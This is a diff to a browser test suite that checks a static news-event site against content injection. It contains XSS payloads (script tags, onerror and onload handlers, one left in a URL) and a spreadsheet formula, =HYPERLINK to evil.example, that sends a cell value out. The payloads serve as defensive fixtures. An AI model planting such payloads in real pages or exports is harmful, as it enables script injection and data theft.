@@ -9,7 +9,7 @@ import path from 'node:path';
 import { chromium, type Browser, type Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it, inject } from 'vitest';
 import { markdownProcessor } from '../../src/lib/markdown/processor.ts';
-import { readMarkdownFile } from '../../src/lib/corpus/source-file.ts';
+import { readMarkdownFile } from '../../src/lib/validation/source-file.ts';
 import { buildSite } from '../support/build.ts';
 import { chromiumArgs } from '../support/chromium.ts';
 import { entry, writeCorpus } from '../support/corpus.ts';
@@ -121,23 +121,28 @@ describe('the site keeps to itself', () => {
 });
 
 describe('content cannot inject markup or script', () => {
-	const hostile = '<script>alert("x")</script><img src=x onerror=alert(1)><svg onload=alert(2)></svg>';
+	// Validation refuses tags and control characters in plain-text fields (tests/fixtures/hostile/78-…, 79-…, 80-…):
+	// what gets through is text full of the characters markup, feeds and spreadsheets care about, shown as text.
+	const tricky = `"quoted" & 'single' < 3 > 2 javascript:alert(1)`;
+	const formula = '=HYPERLINK("https://evil.example/?x="&A1,"Click")';
 	let preview: Awaited<ReturnType<typeof startPreview>> | undefined;
+	let out = '';
 
 	beforeAll(async () => {
-		const actors = `moon-jae-in:\n  name: ${JSON.stringify(`Moon ${hostile}`)}\n  side: south\n  type: person\n  description: ${JSON.stringify(`A president ${hostile}`)}\nkim-yo-jong:\n  name: Kim Yo Jong\n  side: north\n  type: person\ncprk:\n  name: CPRK\n  side: north\n  type: organisation\n`;
-		const topics = `dialogue:\n  label: ${JSON.stringify(`<script>alert(8)</script>`)}\n  description: ${JSON.stringify(`Talks ${hostile}`)}\n`;
+		const actors = `moon-jae-in:\n  name: ${JSON.stringify(`Moon ${tricky}`)}\n  side: south\n  type: person\n  description: ${JSON.stringify(`A president ${tricky}`)}\nkim-yo-jong:\n  name: Kim Yo Jong\n  side: north\n  type: person\ncprk:\n  name: CPRK\n  side: north\n  type: organisation\n`;
+		const topics = `dialogue:\n  label: ${JSON.stringify(`+Talks ${tricky}`)}\n  description: ${JSON.stringify(`@Talks ${tricky}`)}\n`;
 		const dir = writeCorpus(
 			{
 				'2019-08-15-hostile-fields.md': entry(
 					{
-						title: `A title ${hostile}`,
-						channel: `"><script>alert(3)</script>`,
-						quotes: [{ text: `</blockquote>${hostile}`, speaker: `"><svg onload=alert(4)>`, source: 1 }],
+						title: formula,
+						channel: `-${tricky}`,
+						summary: `@SUM(1) ${tricky}`,
+						quotes: [{ text: `The end of a quote ${tricky}`, speaker: `"> ${tricky}`, source: 1 }],
 						sources: [
 							{
-								title: `"><script>alert(5)</script>`,
-								publisher: `<b onclick=alert(6)>Yonhap</b>`,
+								title: `"> ${tricky}`,
+								publisher: `Yonhap ${tricky}`,
 								url: 'https://en.yna.co.kr/view/AEN20190815003600325?q="><script>alert(7)</script>',
 							},
 						],
@@ -147,7 +152,7 @@ describe('content cannot inject markup or script', () => {
 			},
 			{ actors, topics },
 		);
-		const out = mkdtempSync(path.join(tmpdir(), 'trust-'));
+		out = mkdtempSync(path.join(tmpdir(), 'trust-'));
 		const result = buildSite(dir, out);
 		if (result.status !== 0) throw new Error(result.output);
 		preview = await startPreview(out);
@@ -158,6 +163,7 @@ describe('content cannot inject markup or script', () => {
 	it.each([
 		'/',
 		'/events/2019-08-15-hostile-fields/',
+		'/ko/events/2019-08-15-hostile-fields/',
 		'/actors/moon-jae-in/',
 		'/topics/dialogue/',
 		'/topics/',
@@ -165,8 +171,27 @@ describe('content cannot inject markup or script', () => {
 		const { page, dialogs } = await watch(`${preview!.baseUrl}${address}`);
 		expect(dialogs).toEqual([]);
 		expect(await injected(page)).toEqual([]);
-		expect(await page.locator('main').textContent()).toContain('<script>');
+		expect(await page.locator('main').textContent()).toContain(tricky);
 		await page.context().close();
+	});
+
+	it('keeps the feeds well-formed and the spreadsheet free of live formulas', async () => {
+		const context = await browser.newContext();
+		const page = await context.newPage();
+		for (const feed of ['/feed.xml', '/ko/feed.xml']) {
+			const xml = readFileSync(path.join(out, feed), 'utf8');
+			const errors = await page.evaluate(
+				(text) => new DOMParser().parseFromString(text, 'application/xml').getElementsByTagName('parsererror').length,
+				xml,
+			);
+			expect(errors, feed).toBe(0);
+			expect(xml).toContain('=HYPERLINK(&quot;https://evil.example/?x=&quot;&amp;A1,&quot;Click&quot;)');
+		}
+		await context.close();
+		const csv = readFileSync(path.join(out, 'events.csv'), 'utf8');
+		for (const field of csv.split(/\r\n/)[1]!.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/))
+			expect(field.replace(/^"/, '')).not.toMatch(/^[=+@-]/);
+		expect(csv).toContain(`'${formula.replaceAll('"', '""')}`);
 	});
 
 	it('hostile Markdown rendered by the site’s processor comes out inert, even past validation', async () => {
@@ -183,7 +208,7 @@ describe('content cannot inject markup or script', () => {
 		);
 		const file = path.join(mkdtempSync(path.join(tmpdir(), 'rendered-')), 'index.html');
 		const policy = readFileSync('dist/index.html', 'utf8').match(
-			/<meta http-equiv="content-security-policy"[^>]*>/,
+			/<meta http-equiv="content-security-policy"[^>]*>/i,
 		)![0];
 		writeFileSync(
 			file,
